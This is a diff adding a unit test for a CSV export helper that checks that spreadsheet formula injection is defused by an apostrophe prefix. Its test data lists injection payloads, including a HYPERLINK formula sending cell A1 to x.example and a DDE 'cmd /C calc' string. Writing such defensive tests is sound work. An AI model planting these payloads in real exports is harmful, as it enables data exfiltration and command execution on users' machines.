@@ -71,6 +71,28 @@ describe('table export helper', () => {
     expect(toCsvRows([], columns)).toBe('Nome;Data;Etiquetas\r\n')
   })
 
+  it('writes a text that a spreadsheet would run as a formula behind an apostrophe, numbers as they are (issue #29)', () => {
+    type Lead = { name: string; phone: string; visits: number }
+    const leadColumns: ExportColumn<Lead>[] = [
+      { label: 'Nome', field: 'name' },
+      { label: 'Telefone', field: 'phone' },
+      { label: 'Visitas', field: 'visits' },
+    ]
+    const attacks = ['=HYPERLINK("http://x.example/?"&A1,"ver")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']
+    const csv = toCsvRows(
+      attacks.map((name) => ({ name, phone: '+55 11 99999-0000', visits: -3 })),
+      leadColumns,
+      { header: false },
+    )
+    const parsed = csv.split('\r\n').filter(Boolean)
+    expect(parsed).toHaveLength(attacks.length)
+    for (const line of parsed) {
+      expect(line).toMatch(/^"?'/) // the name: inert text
+      expect(line).toContain(";'+55 11 99999-0000;-3") // a telephone is text too; a number stays a number
+    }
+    expect(toCsvRows([{ name: 'Ana', phone: '11 9999', visits: 2 }], leadColumns, { header: false })).toBe('Ana;11 9999;2\r\n')
+  })
+
   it('names the file base name plus local date and time', () => {
     expect(exportFileName('leads', new Date(2026, 10, 22, 9, 5, 7))).toBe('leads-2026-11-22-090507.csv')
   })
